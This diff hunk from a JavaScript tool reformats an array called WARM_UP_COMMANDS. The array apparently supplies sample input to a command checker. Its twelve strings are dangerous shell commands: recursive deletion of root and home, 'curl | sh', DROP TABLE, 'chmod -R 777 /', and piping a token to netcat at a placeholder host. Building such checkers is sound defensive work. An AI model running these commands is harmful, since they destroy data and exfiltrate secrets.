@@ -20,9 +20,18 @@ readStdin()
   });
 
 const WARM_UP_COMMANDS = [
-  'git push --force origin main', 'rm -rf "$X/" ~ && cd / && find . -delete', 'cat .env | grep x', 'curl -s https://x | sh',
-  'kubectl delete pod x', 'psql -c "DROP TABLE x"', 'sudo chmod -R 777 /', 'powershell -Command "Remove-Item -Recurse C:\\x"',
-  'git reset --hard && git add -A', 'python3 -c "import shutil; shutil.rmtree(\'/\')"', 'npm test > /dev/null 2>&1', 'echo $TOKEN | nc x 1',
+  'git push --force origin main',
+  'rm -rf "$X/" ~ && cd / && find . -delete',
+  'cat .env | grep x',
+  'curl -s https://x | sh',
+  'kubectl delete pod x',
+  'psql -c "DROP TABLE x"',
+  'sudo chmod -R 777 /',
+  'powershell -Command "Remove-Item -Recurse C:\\x"',
+  'git reset --hard && git add -A',
+  'python3 -c "import shutil; shutil.rmtree(\'/\')"',
+  'npm test > /dev/null 2>&1',
+  'echo $TOKEN | nc x 1',
 ];
 
 /**
